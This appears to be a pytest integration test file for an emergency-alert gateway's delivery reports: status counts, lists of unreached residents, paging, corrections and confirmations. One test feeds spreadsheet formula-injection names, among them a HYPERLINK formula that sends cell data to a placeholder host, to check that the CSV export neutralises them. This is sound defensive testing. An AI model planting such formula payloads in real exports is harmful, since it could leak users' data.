"""gateway/delivery/reports.py: an announcement's status counts, and the list of residents no
personal channel has reached — with those the policy found no channel for, page by page."""
from __future__ import annotations

import pytest
from sqlalchemy import select

from gateway.delivery import lifecycle, queues, reports
from gateway.store import roster
from gateway.store.schema import reached
from tests.gateway.conftest import RESIDENTS, VILLAGE_A, VILLAGE_B, person
from tests.gateway.delivery.conftest import (SENDER, by_address, hand_over, ledger_rows, plan,
                                             planned, reach, row_of, user)

pytestmark = pytest.mark.integration

BLIND = RESIDENTS["blind"][0].phone
DEAF = RESIDENTS["deaf"][0]
ELDERLY = RESIDENTS["elderly"][0].phone
SMS_ONLY = RESIDENTS["young sms only"][0].phone


def status(app, announcement_id) -> dict:
    with app.app_context(), app.extensions["engine"].connect() as conn:
        return reports.status(conn, row_of(conn, announcement_id))


def unreached(app, announcement_id, **kwargs) -> tuple[list[dict], int]:
    with app.extensions["engine"].connect() as conn:
        return reports.unreached(conn, row_of(conn, announcement_id), **kwargs)


def names(people) -> list[str]:
    return [p["name"] for p in people]


def delivered(app, announcement_id, *keys, status="delivered") -> None:
    rows = by_address(app, announcement_id)
    hand_over(app, announcement_id, [rows[key].id for key in keys])
    reach(app, [rows[key].id for key in keys], status)


@pytest.fixture
def no_contact(app, county):
    """A resident with neither a phone nor WeChat: no channel can reach her."""
    with app.extensions["engine"].begin() as conn:
        roster.insert_residents(conn, [person("无联系", VILLAGE_A)])


def test_status_counts_pending_personal_and_reached(app, county):
    with app.extensions["engine"].begin() as conn:
        roster.add_robot(conn, "沙埠村群", VILLAGE_A, "robot-key-1")
    announcement_id = planned(app)
    rows = ledger_rows(app, announcement_id)
    personal = [row for row in rows if row.channel in ("sms", "voice", "wechat")]
    first = status(app, announcement_id)
    assert first["pending"] == len(rows) and first["reached_residents"] == 0
    assert first["personal_deliveries"] == len(personal) < len(rows)  # no speakers, no robots
    delivered(app, announcement_id, ("sms", DEAF.phone), ("wechat", DEAF.wechat_openid),
              ("sms", SMS_ONLY))
    later = status(app, announcement_id)
    assert later["reached_residents"] == 2  # the deaf resident once, by two channels
    assert later["pending"] == len(rows) - 3
    assert later["deliveries"]["sms"]["delivered"] == 2
    assert later["deliveries"]["wecom_robot"]["queued"] == 1


def test_status_names_paused_channels_and_corrections(app, county):
    announcement_id = planned(app, channels=["sms", "wechat"])
    with app.app_context():
        queues.pause_channel("wechat", 300, "[45009] daily quota used")
        queues.pause_channel("voice", 300, "not this announcement's channel")
    paused = status(app, announcement_id)["paused_channels"]
    assert list(paused) == ["wechat"] and paused["wechat"]["reason"] == "[45009] daily quota used"
    assert 0 < paused["wechat"]["seconds_left"] <= 300
    with app.extensions["engine"].begin() as conn:
        correction = lifecycle.cancel(conn, announcement_id, user(conn, "author"),
                                      sender=SENDER).announcement_id
    cancelled = status(app, announcement_id)
    assert (cancelled["state"], cancelled["superseded_by"], cancelled["pending"]) == \
        ("cancelled", [correction], 0)
    assert status(app, correction)["supersedes"] == announcement_id


def test_unreached_lists_those_with_no_channel_and_what_was_tried(app, no_contact):
    announcement_id = planned(app, areas=[VILLAGE_A])
    rows = by_address(app, announcement_id)
    hand_over(app, announcement_id, [rows[("sms", SMS_ONLY)].id], "failed")
    delivered(app, announcement_id, ("voice", BLIND))
    people, total = unreached(app, announcement_id)
    assert names(people) == ["王小明", "李娜", "刘芳", "赵磊", "无联系"]  # in id order
    assert total == 5
    by_name = {p["name"]: p for p in people}
    assert by_name["无联系"]["tried"] == [] and by_name["无联系"]["phone"] is None
    [tried] = by_name["李娜"]["tried"]
    assert (tried["channel"], tried["status"], tried["attempts"]) == ("sms", "failed", 1)
    assert [t["channel"] for t in by_name["刘芳"]["tried"]] == ["sms", "wechat"]
    assert all(p["area_code"] == VILLAGE_A for p in people)


def test_unreached_pages_and_narrows_to_an_area(app, no_contact):
    announcement_id = planned(app)
    everyone, total = unreached(app, announcement_id)
    assert total == len(everyone) == 8  # the district's seven, and the one without contact
    assert [p["area_code"] for p in everyone] == sorted(p["area_code"] for p in everyone)
    page, page_total = unreached(app, announcement_id, limit=3, offset=3)
    assert (page, page_total) == (everyone[3:6], 8)
    village_b, b_total = unreached(app, announcement_id, area=VILLAGE_B)
    assert names(village_b) == ["陈桂英", "杨洋"] and b_total == 2


def test_a_drill_counts_only_the_test_audience(app, county):
    announcement_id = planned(app, status="exercise")
    assert names(unreached(app, announcement_id)[0]) == ["赵磊"]


def test_a_vulnerable_resident_of_a_severe_notice_is_reached_once_they_confirm(app, county):
    announcement_id = planned(app, severity="severe", channels=["sms", "voice"])
    delivered(app, announcement_id, ("sms", BLIND), ("voice", BLIND), ("sms", ELDERLY),
              ("sms", SMS_ONLY))
    assert {"张伟", "陈桂英"} <= set(names(unreached(app, announcement_id)[0]))
    assert "李娜" not in names(unreached(app, announcement_id)[0])  # not vulnerable
    rows = by_address(app, announcement_id)
    reach(app, [rows[("voice", BLIND)].id], "confirmed")
    delivered(app, announcement_id, ("voice", ELDERLY), status="confirmed")
    assert not {"张伟", "陈桂英"} & set(names(unreached(app, announcement_id)[0]))


def test_a_correction_counts_only_those_it_was_sent_to(app, county):
    original = planned(app, channels=["sms"], areas=[VILLAGE_A])
    delivered(app, original, ("sms", SMS_ONLY), ("sms", BLIND))
    with app.extensions["engine"].begin() as conn:
        correction = lifecycle.cancel(conn, original, user(conn, "author"),
                                      sender=SENDER).announcement_id
    plan(app, correction)
    hand_over(app, correction, [row.id for row in ledger_rows(app, correction)])
    # Of the village's five, only the two the original reached are the correction's audience.
    assert names(unreached(app, correction)[0]) == ["李娜", "张伟"]
    reach(app, [by_address(app, correction)[("sms", SMS_ONLY)].id])
    people, total = unreached(app, correction)
    assert (names(people), total) == (["张伟"], 1)


def test_the_unreached_list_of_a_correction_not_yet_sent(app, county):
    original = planned(app, channels=["sms"], areas=[VILLAGE_A])
    delivered(app, original, ("sms", SMS_ONLY))
    with app.extensions["engine"].begin() as conn:
        correction = lifecycle.cancel(conn, original, user(conn, "author"),
                                      sender=SENDER).announcement_id
    plan(app, correction)
    people, _ = unreached(app, correction)
    assert names(people) == ["李娜"] and people[0]["tried"][0]["at"] is not None


FORMULA_NAMES = ['=HYPERLINK("http://x/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(1,1)"]


def test_the_unreached_csv_is_inert_in_spreadsheets(app, county, api):
    """Imported names that a spreadsheet would run as formulas are written as text."""
    import csv
    import io

    from audiences.residents import ROSTER_COLUMNS

    lines = [",".join(ROSTER_COLUMNS)] + [
        '"' + name.replace('"', '""') + f'",,o_formula{i},{VILLAGE_A},1990,0,0,1,zh,,0'
        for i, name in enumerate(FORMULA_NAMES)]
    with app.extensions["engine"].begin() as conn:
        assert roster.import_residents(conn, ("\n".join(lines) + "\n").encode(),
                                       "test").added == len(FORMULA_NAMES)
    announcement_id = planned(app, channels=["sms"], areas=[VILLAGE_A])
    people, _ = unreached(app, announcement_id)
    assert set(FORMULA_NAMES) <= set(names(people))  # stored as given; only the export changes
    text = reports.unreached_csv(people, ["name", "phone", "area_code", "section", "tried"])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0] == ["name", "phone", "area_code", "section", "tried"]
    assert {row[3] for row in rows[1:]} == {"not_reached"}
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(reports.FORMULA_STARTS), row
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["'" + FORMULA_NAMES[0]][1] == ""
    assert {"'" + name for name in FORMULA_NAMES} <= set(by_name)
    # E.164 phones start with +: written as text too, the number itself unchanged.
    assert by_name["李娜"][1] == "'" + SMS_ONLY
    exported = api("approver").get(f"/api/v1/announcements/{announcement_id}/unreached",
                                   headers={"Accept": "text/csv"}).get_data(as_text=True)
    assert exported == text  # the API writes with the same writer
    with_areas = reports.unreached_csv(people, ["n", "p", "c", "a", "s", "t"], {VILLAGE_A: "=1+1"},
                                       {"not_reached": "=not"})
    assert reports.inert_cell("\tcmd") == "'\tcmd" and reports.inert_cell("\rcmd") == "'\rcmd"
    assert reports.inert_cell(None) == "" and reports.inert_cell("张伟") == "张伟"
    assert all(row[3:5] == ["'=1+1", "'=not"]
               for row in csv.reader(io.StringIO(with_areas.lstrip("\ufeff"))) if row[0] != "n")


def test_reached_and_confirmed_are_two_counts_and_the_list_two_sections(app, county, api):
    """A severe notice: the blind and the elderly resident are reached by SMS, so they count
    as reached, yet stay on the list, in its second section, until they confirm."""
    announcement_id = planned(app, severity="severe", channels=["sms", "voice"])
    delivered(app, announcement_id, ("sms", BLIND), ("sms", ELDERLY), ("sms", SMS_ONLY))
    counts = status(app, announcement_id)
    assert (counts["reached_residents"], counts["confirmed_residents"],
            counts["not_reached_residents"], counts["unconfirmed_residents"],
            counts["confirmation_required"]) == (3, 0, 4, 2, True)
    people, total = unreached(app, announcement_id)
    assert total == 6
    assert [(p["name"], p["section"]) for p in people] == [
        ("王小明", "not_reached"), ("刘芳", "not_reached"), ("赵磊", "not_reached"),
        ("杨洋", "not_reached"), ("张伟", "unconfirmed"), ("陈桂英", "unconfirmed")]
    assert names(unreached(app, announcement_id, section="unconfirmed")[0]) == ["张伟", "陈桂英"]
    rows = by_address(app, announcement_id)
    hand_over(app, announcement_id, [rows[("voice", BLIND)].id])
    reach(app, [rows[("voice", BLIND)].id], "confirmed")  # pressed 1
    reach(app, [rows[("sms", ELDERLY)].id], "confirmed")  # replied 1
    counts = status(app, announcement_id)
    assert (counts["reached_residents"], counts["confirmed_residents"],
            counts["not_reached_residents"], counts["unconfirmed_residents"]) == (3, 2, 4, 0)
    assert unreached(app, announcement_id, section="unconfirmed") == ([], 0)
    with app.extensions["engine"].connect() as conn:
        firsts = {row.recipient_id: row for row in conn.execute(
            select(reached).where(reached.c.announcement_id == announcement_id))}
    blind = firsts[rows[("sms", BLIND)].recipient_id]
    assert blind.channel == "sms"  # first reached by SMS, confirmed by the call
    assert blind.reached_at is not None and blind.confirmed_at >= blind.reached_at
    assert firsts[rows[("sms", SMS_ONLY)].recipient_id].confirmed_at is None
    body = api("approver").get(f"/api/v1/announcements/{announcement_id}/unreached").get_json()
    assert body["sections"] == {"not_reached": 4, "unconfirmed": 0} and body["total"] == 4
    assert api("author").get(f"/api/v1/announcements/{announcement_id}").get_json()[
        "confirmed_residents"] == 2


def test_a_moderate_notice_needs_no_confirmation(app, county, api):
    announcement_id = planned(app, channels=["sms", "voice"])
    delivered(app, announcement_id, ("sms", BLIND), ("sms", ELDERLY))
    counts = status(app, announcement_id)
    assert (counts["reached_residents"], counts["not_reached_residents"],
            counts["unconfirmed_residents"], counts["confirmation_required"]) == (2, 5, 0, False)
    assert {p["section"] for p in unreached(app, announcement_id)[0]} == {"not_reached"}
    refused = api("approver").get(f"/api/v1/announcements/{announcement_id}/unreached?section=x")
    assert refused.status_code == 400 and refused.get_json()["field"] == "section"


def test_a_resident_retired_from_the_roster_is_not_looked_for(app, county):
    from sqlalchemy import update

    from gateway.store.db import utcnow
    from gateway.store.schema import residents

    announcement_id = planned(app, channels=["sms"], areas=[VILLAGE_A])
    before = status(app, announcement_id)["not_reached_residents"]
    with app.extensions["engine"].begin() as conn:
        conn.execute(update(residents).where(residents.c.phone == SMS_ONLY)
                     .values(retired_at=utcnow()))
    assert "李娜" not in names(unreached(app, announcement_id)[0])
    # The status counts from the plan (a running count, no scan of the roster at each poll).
    assert status(app, announcement_id)["not_reached_residents"] == before
